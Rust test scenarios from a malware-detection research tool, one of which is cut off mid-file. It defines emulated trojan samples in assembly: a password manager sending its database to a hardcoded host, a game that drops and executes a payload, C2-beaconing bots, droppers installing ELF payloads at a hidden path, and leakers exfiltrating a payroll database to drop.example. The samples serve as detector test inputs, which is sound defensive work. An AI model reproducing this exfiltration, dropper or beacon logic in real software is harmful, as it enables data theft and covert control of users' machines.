                fdset:      .long 0
                recvargs:   .long 0, 0x09000100, 16, 0
                sendargs:   .long 0, 0x09000100
                sendlen:    .long 0
                sendflg:    .long 0
                "#,
                &[],
            );
            StartSpec::plain("/gen2/select_server")
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gen2_scenarios_match_expectations() {
        for scenario in scenarios() {
            let result = scenario.run().expect("runs");
            assert!(
                result.correct(),
                "{}: expected {:?}, got severity {:?}, rules {:?}\nfaults: {:?}\ntranscript:\n{}",
                scenario.id,
                scenario.expected,
                result.max_severity(),
                result.rules_fired(),
                result.report.faults,
                result.transcript,
            );
        }
    }

    #[test]
    fn pipe_launder_taint_survives_plumbing() {
        // The laundering scenario's whole point: the execve'd path still
        // carries a SOCKET origin. Severity High *and* the message names
        // the socket.
        let result = pipe_launder().run().expect("runs");
        let execve = result
            .warnings
            .iter()
            .find(|w| w.rule == "check_execve")
            .expect("execve warning fired");
        assert!(
            execve.message.contains("originated from a socket"),
            "laundering shed the socket taint: {}",
            execve.message
        );
    }

    #[test]
    fn sig_killer_child_dies_of_signal() {
        let result = sig_killer().run().expect("runs");
        assert!(
            result.report.exited.iter().any(|&(_, code)| code == 128 + 9),
            "child should exit 128+SIGKILL, got {:?}",
            result.report.exited
        );
    }
}
