//! §10 extension scenarios: workloads exercising the future-work
//! features this reproduction implements on top of the paper — memory
//! resource abuse (item 4) and downloaded-executable content analysis
//! (item 5). Cross-session monitoring (item 6) is exercised by
//! `hth-core`'s `cross_session` tests and the integration suite.

use emukernel::{Endpoint, Peer};
use hth_core::{Session, Severity};

use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// All §10 extension scenarios.
pub fn scenarios() -> Vec<Scenario> {
    vec![memhog(), memhog_modest(), exe_downloader(), text_downloader()]
}

fn memhog() -> Scenario {
    Scenario {
        id: "memhog",
        group: Group::Extension,
        description: "Vundo-style memory hog: grows the heap past the abuse threshold",
        paper_note: "§10 item 4: memory resource-abuse rule (Low, then Medium)",
        expected: Expectation::Rules(Severity::Medium, &["check_memory_abuse"]),
        setup: Box::new(|session: &mut Session| {
            session.kernel.register_binary(
                "/ext/memhog",
                r"
                _start:
                    mov edi, 20         ; 20 x 1 MiB = 20 MiB total
                grow:
                    mov eax, 45         ; brk(+1 MiB)
                    mov ebx, 0x100000
                    int 0x80
                    dec edi
                    cmp edi, 0
                    jne grow
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/ext/memhog")
        }),
    }
}

fn memhog_modest() -> Scenario {
    Scenario {
        id: "memhog_modest",
        group: Group::Extension,
        description: "ordinary allocation stays under the abuse threshold",
        paper_note: "control: a few hundred KiB of heap is normal",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.register_binary(
                "/ext/modest",
                r"
                _start:
                    mov eax, 45         ; brk(+256 KiB)
                    mov ebx, 0x40000
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/ext/modest")
        }),
    }
}

/// Shared downloader program: fetch bytes from the peer, store them in a
/// *user-named* file (so only the content rule can object).
const DOWNLOADER: &str = r"
_start:
    mov ebp, esp
    mov eax, 102        ; socket()
    mov ebx, 1
    mov ecx, sockargs
    int 0x80
    mov edi, eax
    mov [connargs], edi
    mov eax, 102        ; connect (user initiated the download;
    mov ebx, 3          ;  address hardcoded like a mirror URL)
    mov ecx, connargs
    int 0x80
    mov [recvargs], edi
    mov eax, 102        ; recv the body
    mov ebx, 10
    mov ecx, recvargs
    int 0x80
    mov ebx, [ebp+8]    ; argv[1] = output file (user-named)
    mov eax, 5
    mov ecx, 0x41
    int 0x80
    mov esi, eax
    mov eax, 4          ; write the body
    mov ebx, esi
    mov ecx, 0x09000000
    mov edx, 16
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
.data
sockargs: .long 2, 1, 0
addr:     .word 2
port:     .word 80
ip:       .long 0x0a0000aa
connargs: .long 0, addr, 8
recvargs: .long 0, 0x09000000, 16, 0
";

fn downloader_scenario(
    id: &'static str,
    description: &'static str,
    body: &'static [u8],
    expected: Expectation,
    paper_note: &'static str,
) -> Scenario {
    Scenario {
        id,
        group: Group::Extension,
        description,
        paper_note,
        expected,
        setup: Box::new(move |session: &mut Session| {
            session.kernel.net.add_host("mirror.example", 0x0a00_00aa);
            session.kernel.net.add_peer(
                Endpoint { ip: 0x0a00_00aa, port: 80 },
                Peer { on_connect: vec![body.to_vec()], ..Peer::default() },
            );
            session.kernel.register_binary("/ext/fetch", DOWNLOADER, &[]);
            StartSpec::plain("/ext/fetch").arg("download.bin")
        }),
    }
}

fn exe_downloader() -> Scenario {
    downloader_scenario(
        "exe_downloader",
        "downloads an ELF executable into a user-named file",
        b"\x7fELF\x01\x01\x01\0payload!",
        Expectation::Rules(Severity::High, &["flow_executable_download"]),
        "§10 item 5: content analysis flags executable downloads even to \
         user-named files",
    )
}

fn text_downloader() -> Scenario {
    downloader_scenario(
        "text_downloader",
        "downloads plain text into a user-named file",
        b"hello, plain text",
        Expectation::Silent,
        "control: the same program fetching non-executable content is fine",
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn extension_scenarios_match_expectations() {
        let mut failures = Vec::new();
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            if !result.correct() {
                failures.push(format!(
                    "{}: expected {:?}, got {:?} rules {:?}\n{}",
                    scenario.id,
                    scenario.expected,
                    result.max_severity(),
                    result.rules_fired(),
                    result.transcript,
                ));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
    }

    #[test]
    fn memhog_escalates_to_medium() {
        let result = memhog().run().unwrap();
        let severities: Vec<_> = result
            .warnings
            .iter()
            .filter(|w| w.rule == "check_memory_abuse")
            .map(|w| w.severity)
            .collect();
        assert!(severities.contains(&Severity::Low), "Low at the first threshold");
        assert!(severities.contains(&Severity::Medium), "Medium past 16 MiB");
    }

    #[test]
    fn exe_magic_is_what_flags_the_download() {
        let exe = exe_downloader().run().unwrap();
        let txt = text_downloader().run().unwrap();
        assert!(exe.transcript.contains("is an executable"), "{}", exe.transcript);
        assert!(txt.warnings.is_empty());
    }
}
