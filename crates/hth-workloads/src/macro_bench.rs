//! §8.4 — macro benchmarks: real applications, clean and trojaned.
//!
//! * **pwsafe** — a password database manager; the trojaned variant
//!   exfiltrates the database to a hardcoded server (paper §8.4.1).
//! * **mw2.2.1** — a dictionary-lookup script; the modified variant
//!   fork-bombs (paper §8.4.2).
//! * **Ultra Tic-Tac-Toe** — a console game; the trojaned variant drops
//!   and executes a file (paper §8.4.3).

use emukernel::{Endpoint, FileNode, Peer};
use hth_core::{Session, Severity};

use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// All §8.4 scenarios.
pub fn scenarios() -> Vec<Scenario> {
    vec![pwsafe_clean(), pwsafe_trojaned(), mw_lookup(), mw_forkbomb(), ttt_clean(), ttt_trojaned()]
}

const PWSAFE_DB: &str = "/home/user/.pwsafe.dat";

fn install_pwsafe_db(session: &mut Session) {
    session.kernel.vfs.install(
        PWSAFE_DB,
        FileNode::regular(b"site=bank.example user=alice pass=hunter2".to_vec()),
    );
}

fn pwsafe_clean() -> Scenario {
    Scenario {
        id: "pwsafe",
        group: Group::Macro,
        description: "pwsafe --exportdb: prints the password database on the console",
        paper_note: "no warnings (console output only)",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            install_pwsafe_db(session);
            session.kernel.register_binary(
                "/usr/bin/pwsafe",
                r#"
                _start:
                    mov eax, 4          ; print the help banner
                    mov ebx, 1
                    mov ecx, banner
                    mov edx, 24
                    int 0x80
                    mov eax, 5          ; open the database (hardcoded path)
                    mov ebx, dbpath
                    mov ecx, 0
                    int 0x80
                    mov edi, eax
                    mov eax, 3
                    mov ebx, edi
                    mov ecx, 0x09000000
                    mov edx, 40
                    int 0x80
                    mov eax, 4          ; export to the console
                    mov ebx, 1
                    mov ecx, 0x09000000
                    mov edx, 40
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                banner: .asciz "pwsafe 0.2.0 exportdb   "
                dbpath: .asciz "/home/user/.pwsafe.dat"
                "#,
                &[],
            );
            StartSpec::plain("/usr/bin/pwsafe").arg("--exportdb")
        }),
    }
}

fn pwsafe_trojaned() -> Scenario {
    Scenario {
        id: "pwsafe_trojaned",
        group: Group::Macro,
        description: "pwsafe with injected code sending the database to duero:40400",
        paper_note: "paper: Low warnings (its tracker attributed the data to shared \
                     objects); complete tracking attributes the database file and \
                     grades the exfiltration High",
        expected: Expectation::Rules(Severity::High, &["flow_file_to_socket"]),
        setup: Box::new(|session: &mut Session| {
            install_pwsafe_db(session);
            session.kernel.net.add_host("duero", 0x0a14_0001);
            session.kernel.net.add_peer(Endpoint { ip: 0x0a14_0001, port: 40400 }, Peer::default());
            session.kernel.register_binary(
                "/usr/bin/pwsafe",
                r#"
                _start:
                    mov eax, 5          ; open the database (hardcoded path)
                    mov ebx, dbpath
                    mov ecx, 0
                    int 0x80
                    mov edi, eax
                    mov eax, 3
                    mov ebx, edi
                    mov ecx, 0x09000000
                    mov edx, 40
                    int 0x80
                    mov eax, 4          ; normal behaviour: print it
                    mov ebx, 1
                    mov ecx, 0x09000000
                    mov edx, 40
                    int 0x80
                    ; --- injected trojan: send the buffer to duero ---
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov esi, eax
                    mov [connargs], esi
                    mov eax, 102
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    mov [sendargs], esi
                    mov eax, 102
                    mov ebx, 9
                    mov ecx, sendargs
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                dbpath:   .asciz "/home/user/.pwsafe.dat"
                sockargs: .long 2, 1, 0
                taddr:    .word 2
                tport:    .word 40400
                tip:      .long 0x0a140001
                connargs: .long 0, taddr, 8
                sendargs: .long 0, 0x09000000, 40, 0
                "#,
                &[],
            );
            StartSpec::plain("/usr/bin/pwsafe").arg("--exportdb")
        }),
    }
}

fn mw_lookup() -> Scenario {
    Scenario {
        id: "mw2.2.1",
        group: Group::Macro,
        description: "dictionary lookup: fetches a user-given word from the M-W site",
        paper_note: "no warnings on the original script",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.net.add_host("www.m-w.com", 0x0a1e_0001);
            session.kernel.net.add_peer(
                Endpoint { ip: 0x0a1e_0001, port: 80 },
                Peer { on_connect: vec![b"HTTP/1.0 200 OK".to_vec()], ..Peer::default() },
            );
            // The user supplies both the word and (conceptually) the site;
            // the address bytes arrive from the console like a config.
            let mut sockaddr = Vec::new();
            sockaddr.extend_from_slice(&2u16.to_le_bytes());
            sockaddr.extend_from_slice(&80u16.to_le_bytes());
            sockaddr.extend_from_slice(&0x0a1e_0001u32.to_le_bytes());
            session.kernel.push_stdin(sockaddr);
            session.kernel.register_binary(
                "/usr/bin/mw",
                r"
                .equ ADDR, 0x09020000
                _start:
                    mov ebp, esp
                    mov eax, 3          ; the user-configured server address
                    mov ebx, 0
                    mov ecx, ADDR
                    mov edx, 8
                    int 0x80
                    mov eax, 102
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov esi, eax
                    mov [connargs], esi
                    mov eax, 102        ; connect
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    ; send the user's word as the query
                    mov eax, [ebp+8]    ; argv[1]
                    mov [sendargs+4], eax
                    mov [sendargs], esi
                    mov eax, 102
                    mov ebx, 9
                    mov ecx, sendargs
                    int 0x80
                    ; print the response
                    mov [recvargs], esi
                    mov eax, 102
                    mov ebx, 10
                    mov ecx, recvargs
                    int 0x80
                    mov eax, 4
                    mov ebx, 1
                    mov ecx, 0x09000000
                    mov edx, 15
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                sockargs: .long 2, 1, 0
                connargs: .long 0, 0x09020000, 8
                sendargs: .long 0, 0, 8, 0
                recvargs: .long 0, 0x09000000, 15, 0
                ",
                &[],
            );
            StartSpec::plain("/usr/bin/mw").arg("serendipity")
        }),
    }
}

fn mw_forkbomb() -> Scenario {
    Scenario {
        id: "mw2.2.1_forkbomb",
        group: Group::Macro,
        description: "the modified script forks more than 20 children",
        paper_note: "Low (frequent clone) then Medium (very frequent)",
        expected: Expectation::Rules(Severity::Medium, &["check_clone_count", "check_clone_rate"]),
        setup: Box::new(|session: &mut Session| {
            session.kernel.register_binary(
                "/usr/bin/mw",
                r"
                _start:
                    mov edi, 22
                fb_loop:
                    mov eax, 2
                    int 0x80
                    cmp eax, 0
                    je fb_child
                    dec edi
                    cmp edi, 0
                    jne fb_loop
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                fb_child:
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/usr/bin/mw").arg("word")
        }),
    }
}

fn ttt_clean() -> Scenario {
    Scenario {
        id: "ttt",
        group: Group::Macro,
        description: "Ultra Tic-Tac-Toe: reads the user's moves, prints the board",
        paper_note: "no warnings",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.push_stdin(b"5".to_vec());
            session.kernel.push_stdin(b"1".to_vec());
            session.kernel.register_binary(
                "/usr/games/ttt",
                r#"
                _start:
                    mov edi, 2          ; two moves
                game_loop:
                    mov eax, 4          ; print the board
                    mov ebx, 1
                    mov ecx, board
                    mov edx, 11
                    int 0x80
                    mov eax, 3          ; read a move
                    mov ebx, 0
                    mov ecx, 0x09000000
                    mov edx, 4
                    int 0x80
                    dec edi
                    cmp edi, 0
                    jne game_loop
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                board: .asciz ".X.|.O.|..."
                "#,
                &[],
            );
            StartSpec::plain("/usr/games/ttt")
        }),
    }
}

fn ttt_trojaned() -> Scenario {
    Scenario {
        id: "ttt_trojaned",
        group: Group::Macro,
        description: "the game drops malicious_code.txt, chmods it and executes it",
        paper_note: "High for the dropped file; Low for executing it (the exec \
                     fails — the file is not a valid executable, paper footnote 9)",
        expected: Expectation::Rules(Severity::High, &["flow_binary_to_file", "check_execve"]),
        setup: Box::new(|session: &mut Session| {
            session.kernel.push_stdin(b"5".to_vec());
            session.kernel.register_binary(
                "/usr/games/ttt",
                r#"
                _start:
                    mov eax, 4          ; look like a game
                    mov ebx, 1
                    mov ecx, board
                    mov edx, 11
                    int 0x80
                    mov eax, 3
                    mov ebx, 0
                    mov ecx, 0x09000000
                    mov edx, 4
                    int 0x80
                    ; --- the trojan ---
                    mov eax, 5          ; drop the payload
                    mov ebx, payload_name
                    mov ecx, 0x41
                    int 0x80
                    mov esi, eax
                    mov eax, 4
                    mov ebx, esi
                    mov ecx, payload
                    mov edx, 20
                    int 0x80
                    mov eax, 6
                    mov ebx, esi
                    int 0x80
                    mov eax, 15         ; chmod +x
                    mov ebx, payload_name
                    mov ecx, 0x1ff
                    int 0x80
                    mov eax, 11         ; execute it (fails: not executable format)
                    mov ebx, payload_name
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                board:        .asciz ".X.|.O.|..."
                payload_name: .asciz "./malicious_code.txt"
                payload:      .asciz "PAYLOAD: rm -rf all"
                "#,
                &[],
            );
            StartSpec::plain("/usr/games/ttt")
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn macro_benchmarks_match_expectations() {
        let mut failures = Vec::new();
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            if !result.correct() {
                failures.push(format!(
                    "{}: expected {:?}, got {:?} rules {:?}\n{}",
                    scenario.id,
                    scenario.expected,
                    result.max_severity(),
                    result.rules_fired(),
                    result.transcript,
                ));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
    }

    #[test]
    fn trojaned_variants_warn_where_clean_ones_do_not() {
        assert!(pwsafe_clean().run().unwrap().warnings.is_empty());
        assert!(!pwsafe_trojaned().run().unwrap().warnings.is_empty());
        assert!(ttt_clean().run().unwrap().warnings.is_empty());
        assert!(!ttt_trojaned().run().unwrap().warnings.is_empty());
    }

    #[test]
    fn ttt_exec_of_dropped_file_fails_but_is_reported() {
        let result = ttt_trojaned().run().unwrap();
        assert!(result.transcript.contains("malicious_code.txt"));
        let execs: Vec<_> = result.warnings.iter().filter(|w| w.rule == "check_execve").collect();
        assert_eq!(execs.len(), 1);
    }
}
