//! The coordinated-attack fleet: twelve sessions whose *individual*
//! transcripts look like twelve unrelated incidents, but whose digests
//! correlate into a fleet-level campaign (§10 item 6, cross-session
//! monitoring).
//!
//! Three squads of four:
//!
//! * **bots** — each connects to the *same hardcoded* C2 endpoint
//!   ([`C2_ENDPOINT`]) and awaits a command. One bot is just a program
//!   phoning home; four distinct programs sharing one hardcoded
//!   endpoint is the `shared-c2` fleet signal.
//! * **droppers** — each fetches an ELF payload from its *own* staging
//!   mirror (distinct endpoints, so no shared-C2 signal) but installs
//!   it at the *same* path ([`DROP_PATH`]): the `recurring-dropper`
//!   signal.
//! * **leakers** — each reads the sink address from a config file (a
//!   file-configured endpoint is *not* a beacon) and exfiltrates ~600
//!   bytes of a local database to it. Each stays under the per-session
//!   exfiltration threshold; only the fleet-wide sum crosses the line:
//!   the `distributed-exfil` signal.
//!
//! These scenarios are deliberately **not** part of
//! [`crate::all_scenarios`]: the paper tables score sessions one at a
//! time, and a coordinated campaign only makes sense run as a fleet
//! (`hth fleet --correlate`, `tests/correlate_equivalence.rs`, the
//! golden corpus).

use emukernel::{Endpoint, FileNode, Peer};
use hth_core::{Session, Severity};

use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// The C2 endpoint every bot carries in its image, as the monitor
/// renders it.
pub const C2_ENDPOINT: &str = "c2.example:6667 (AF_INET)";
/// The install path every dropper writes its payload to.
pub const DROP_PATH: &str = "/usr/libexec/.hidden/stage2";
/// The exfiltration sink, as the monitor renders it.
pub const SINK_ENDPOINT: &str = "drop.example:4444 (AF_INET)";
/// Bytes each leaker sends: under the per-session threshold (1024) but
/// over the fleet threshold (2048) once three or more leakers add up.
pub const LEAK_BYTES: u64 = 600;

const C2_IP: u32 = 0x0a00_00c2;
const FEED_IP: u32 = 0x0a00_00fe;
const SINK_IP: u32 = 0x0a00_00d5;
const SINK_PORT: u16 = 4444;

/// The full 12-session campaign, in fleet session order.
pub fn scenarios() -> Vec<Scenario> {
    vec![
        bot("bot_alpha", "/fleet/bot_alpha"),
        bot("bot_bravo", "/fleet/bot_bravo"),
        bot("bot_charlie", "/fleet/bot_charlie"),
        bot("bot_delta", "/fleet/bot_delta"),
        dropper("dropper_alpha", "/fleet/dropper_alpha", 8001),
        dropper("dropper_bravo", "/fleet/dropper_bravo", 8002),
        dropper("dropper_charlie", "/fleet/dropper_charlie", 8003),
        dropper("dropper_delta", "/fleet/dropper_delta", 8004),
        leaker("leaker_alpha", "/fleet/leaker_alpha"),
        leaker("leaker_bravo", "/fleet/leaker_bravo"),
        leaker("leaker_charlie", "/fleet/leaker_charlie"),
        leaker("leaker_delta", "/fleet/leaker_delta"),
    ]
}

/// A bot: connect to the hardcoded C2, receive a command, exit. On its
/// own, barely noteworthy — the command is never acted on.
fn bot(id: &'static str, path: &'static str) -> Scenario {
    Scenario {
        id,
        group: Group::Extension,
        description: "beacons to the shared hardcoded C2 and awaits orders",
        paper_note: "§10 item 6: one beacon is per-session silent noise; four programs \
                     sharing it are a botnet",
        expected: Expectation::Silent,
        setup: Box::new(move |session: &mut Session| {
            session.kernel.net.add_host("c2.example", C2_IP);
            session.kernel.net.add_peer(
                Endpoint { ip: C2_IP, port: 6667 },
                Peer { on_connect: vec![b"IDLE".to_vec()], ..Peer::default() },
            );
            session.kernel.register_binary(
                path,
                &format!(
                    r"
                    _start:
                        mov eax, 102        ; socket()
                        mov ebx, 1
                        mov ecx, sockargs
                        int 0x80
                        mov edi, eax
                        mov [connargs], edi
                        mov eax, 102        ; connect() to the hardcoded C2
                        mov ebx, 3
                        mov ecx, connargs
                        int 0x80
                        mov [recvargs], edi
                        mov eax, 102        ; recv the command of the day
                        mov ebx, 10
                        mov ecx, recvargs
                        int 0x80
                        mov eax, 1
                        mov ebx, 0
                        int 0x80
                    .data
                    sockargs: .long 2, 1, 0
                    caddr:    .word 2
                    cport:    .word 6667
                    cip:      .long {C2_IP}
                    connargs: .long 0, caddr, 8
                    recvargs: .long 0, 0x09000000, 16, 0
                    "
                ),
                &[],
            );
            StartSpec::plain(path)
        }),
    }
}

/// A dropper: fetch an ELF payload from a per-session staging mirror
/// and install it at the shared hidden path.
fn dropper(id: &'static str, path: &'static str, port: u16) -> Scenario {
    Scenario {
        id,
        group: Group::Extension,
        description: "downloads a payload from its own mirror, installs it at the shared path",
        paper_note: "§10 item 6: the same artifact landing on many machines is a campaign",
        expected: Expectation::Rules(Severity::High, &["flow_executable_download"]),
        setup: Box::new(move |session: &mut Session| {
            session.kernel.net.add_host("feed.example", FEED_IP);
            session.kernel.net.add_peer(
                Endpoint { ip: FEED_IP, port },
                Peer { on_connect: vec![b"\x7fELF-stage2-mod".to_vec()], ..Peer::default() },
            );
            session.kernel.register_binary(
                path,
                &format!(
                    r#"
                    .equ BODY, 0x09000000
                    _start:
                        mov eax, 102        ; socket()
                        mov ebx, 1
                        mov ecx, sockargs
                        int 0x80
                        mov edi, eax
                        mov [connargs], edi
                        mov eax, 102        ; connect() to this session's mirror
                        mov ebx, 3
                        mov ecx, connargs
                        int 0x80
                        mov [recvargs], edi
                        mov eax, 102        ; recv the payload
                        mov ebx, 10
                        mov ecx, recvargs
                        int 0x80
                        mov eax, 5          ; open the shared install path
                        mov ebx, dropname
                        mov ecx, 0x41
                        int 0x80
                        mov esi, eax
                        mov eax, 4          ; write the payload
                        mov ebx, esi
                        mov ecx, BODY
                        mov edx, 16
                        int 0x80
                        mov eax, 6
                        mov ebx, esi
                        int 0x80
                        mov eax, 1
                        mov ebx, 0
                        int 0x80
                    .data
                    dropname: .asciz "{DROP_PATH}"
                    sockargs: .long 2, 1, 0
                    faddr:    .word 2
                    fport:    .word {port}
                    fip:      .long {FEED_IP}
                    connargs: .long 0, faddr, 8
                    recvargs: .long 0, 0x09000000, 16, 0
                    "#
                ),
                &[],
            );
            StartSpec::plain(path)
        }),
    }
}

/// A leaker: read the sink address from a dropped config (so the
/// connect is file-configured, not a beacon), then send ~600 bytes of a
/// local database to it — under the per-session radar by itself.
fn leaker(id: &'static str, path: &'static str) -> Scenario {
    Scenario {
        id,
        group: Group::Extension,
        description: "exfiltrates a sliver of a local database to a file-configured sink",
        paper_note: "§10 item 6: each leaker is per-session silent (file-configured sink, \
                     small slice); only the fleet-wide sum crosses the line",
        expected: Expectation::Silent,
        setup: Box::new(move |session: &mut Session| {
            session.kernel.net.add_host("drop.example", SINK_IP);
            session.kernel.net.add_peer(Endpoint { ip: SINK_IP, port: SINK_PORT }, Peer::default());
            // The config is a raw sockaddr: family 2, then port and ip
            // little-endian — exactly what connect() consumes.
            let mut sockaddr = Vec::with_capacity(8);
            sockaddr.extend_from_slice(&2u16.to_le_bytes());
            sockaddr.extend_from_slice(&SINK_PORT.to_le_bytes());
            sockaddr.extend_from_slice(&SINK_IP.to_le_bytes());
            session.kernel.vfs.install("/fleet/c2.conf", FileNode::regular(sockaddr));
            session.kernel.vfs.install("/fleet/payroll.db", FileNode::regular(vec![b'$'; 1024]));
            session.kernel.register_binary(
                path,
                &format!(
                    r#"
                    .equ ADDR, 0x09000000
                    .equ LOOT, 0x09000100
                    _start:
                        mov eax, 5          ; open the dropped config
                        mov ebx, confname
                        mov ecx, 0
                        int 0x80
                        mov esi, eax
                        mov eax, 3          ; read the sockaddr it holds
                        mov ebx, esi
                        mov ecx, ADDR
                        mov edx, 8
                        int 0x80
                        mov eax, 102        ; socket()
                        mov ebx, 1
                        mov ecx, sockargs
                        int 0x80
                        mov edi, eax
                        mov [connargs], edi
                        mov eax, 102        ; connect() to the configured sink
                        mov ebx, 3
                        mov ecx, connargs
                        int 0x80
                        mov eax, 5          ; open the local database
                        mov ebx, lootname
                        mov ecx, 0
                        int 0x80
                        mov esi, eax
                        mov eax, 3          ; read a slice of it
                        mov ebx, esi
                        mov ecx, LOOT
                        mov edx, {LEAK_BYTES}
                        int 0x80
                        mov [sendargs], edi
                        mov eax, 102        ; send the slice to the sink
                        mov ebx, 9
                        mov ecx, sendargs
                        int 0x80
                        mov eax, 1
                        mov ebx, 0
                        int 0x80
                    .data
                    confname: .asciz "/fleet/c2.conf"
                    lootname: .asciz "/fleet/payroll.db"
                    sockargs: .long 2, 1, 0
                    connargs: .long 0, ADDR, 8
                    sendargs: .long 0, 0x09000100, {LEAK_BYTES}, 0
                    "#
                ),
                &[],
            );
            StartSpec::plain(path)
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hth_core::digest_session;

    fn digest_of(scenario: &Scenario) -> hth_core::SessionDigest {
        let mut session = hth_core::Session::new(hth_core::SessionConfig::default()).unwrap();
        let start = (scenario.setup)(&mut session);
        let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
        session.start(start.path, &argv, &[]).unwrap();
        session.run().unwrap();
        digest_session(0, scenario.id, session.events(), session.warnings())
    }

    #[test]
    fn bot_digest_carries_the_shared_beacon() {
        let digest = digest_of(&bot("bot_alpha", "/fleet/bot_alpha"));
        assert_eq!(digest.beacons.iter().collect::<Vec<_>>(), [C2_ENDPOINT]);
        assert!(digest.drops.is_empty(), "{:?}", digest.drops);
        assert!(digest.exfil.is_empty(), "{:?}", digest.exfil);
    }

    #[test]
    fn dropper_digest_carries_the_shared_artifact() {
        let digest = digest_of(&dropper("dropper_alpha", "/fleet/dropper_alpha", 8001));
        let drop = digest.drops.iter().next().expect("one drop");
        assert_eq!(drop.path, DROP_PATH);
        assert!(drop.executable, "payload has the ELF magic");
        assert_eq!(drop.content, ["SOCKET"]);
        // The mirror endpoint is per-session, so it may beacon — but
        // never to the bots' shared C2.
        assert!(!digest.beacons.contains(C2_ENDPOINT), "{:?}", digest.beacons);
    }

    #[test]
    fn leaker_digest_counts_bytes_but_does_not_beacon() {
        let digest = digest_of(&leaker("leaker_alpha", "/fleet/leaker_alpha"));
        assert_eq!(digest.exfil.get(SINK_ENDPOINT), Some(&LEAK_BYTES), "{:?}", digest.exfil);
        // The sink came from a file, not the binary image: no beacon.
        assert!(digest.beacons.is_empty(), "{:?}", digest.beacons);
    }

    // Bots and leakers are *individually* silent — the whole point of
    // the campaign — while each dropper is caught on its own.
    #[test]
    fn per_session_classifications_match() {
        let mut failures = Vec::new();
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            if !result.correct() {
                failures.push(format!(
                    "{}: expected {:?}, got {:?} rules {:?}\n{}",
                    scenario.id,
                    scenario.expected,
                    result.max_severity(),
                    result.rules_fired(),
                    result.transcript,
                ));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
    }

    #[test]
    fn the_campaign_correlates_into_all_three_fleet_rules() {
        let mut correlator = hth_core::Correlator::new(hth_core::CorrelateConfig::default());
        for (sid, scenario) in scenarios().iter().enumerate() {
            let mut session = hth_core::Session::new(hth_core::SessionConfig::default()).unwrap();
            let start = (scenario.setup)(&mut session);
            let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
            session.start(start.path, &argv, &[]).unwrap();
            session.run().unwrap();
            correlator.ingest(digest_session(
                sid as u64,
                scenario.id,
                session.events(),
                session.warnings(),
            ));
        }
        let report = correlator.correlate().unwrap();
        let rules: Vec<&str> = report.warnings.iter().map(|w| w.rule.as_str()).collect();
        assert!(rules.contains(&"shared_c2"), "{rules:?}\n{}", report.transcript);
        assert!(rules.contains(&"recurring_dropper"), "{rules:?}\n{}", report.transcript);
        assert!(rules.contains(&"distributed_exfil"), "{rules:?}\n{}", report.transcript);
    }
}
