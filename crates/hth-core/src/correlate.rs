//! The fleet correlator: a dedicated Secpert over session digests.
//!
//! Per-session analysis is structurally blind to coordination: the same
//! hardcoded C2 endpoint in many users' programs, one dropper artifact
//! recurring fleet-wide, exfiltration sliced thin enough to duck every
//! per-session threshold. The [`Correlator`] ingests [`SessionDigest`]s
//! (however they arrive — pool shards, a serve session table, journal
//! replay), groups them into aggregate facts, and runs the
//! `secpert-engine` correlator policy
//! ([`DIGEST_TEMPLATES`](secpert_engine::DIGEST_TEMPLATES) +
//! [`CORRELATE_RULES`](secpert_engine::CORRELATE_RULES)) over the
//! result.
//!
//! **Determinism.** [`Correlator::correlate`] is a pure function of the
//! ingested digest *multiset*: digests live in a session-keyed B-tree,
//! every set inside a digest is itself ordered, aggregates are grouped
//! in key order, and each call builds a fresh engine. Shard count,
//! batch size, arrival order and transport (live, serve, journal) can
//! therefore not change a byte of the output — the invariant
//! `tests/correlate_equivalence.rs` pins.
//!
//! Fleet warnings carry [`Provenance`] whose support spans sessions:
//! the aggregate fact plus every per-session leaf fact behind it, so
//! `hth explain` renders a causal tree rooted in the sessions that
//! contributed.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::sync::{Arc, Mutex};

use secpert_engine::{Engine, EngineError, FactId, Value, CORRELATE_RULES, DIGEST_TEMPLATES};

use crate::digest::SessionDigest;
use crate::provenance::{FactSupport, Provenance};
use crate::secpert::{register_severity_text, register_warn};
use crate::warning::{Severity, Warning};

/// Thresholds for the correlator rule family (the CLIPS globals in
/// [`CORRELATE_RULES`], overridden after load).
#[derive(Clone, Debug)]
pub struct CorrelateConfig {
    /// Distinct program labels beaconing one endpoint at/above this
    /// fire `shared_c2` (High).
    pub min_c2_labels: i64,
    /// Sessions dropping one executable artifact at/above this fire
    /// `recurring_dropper` (High).
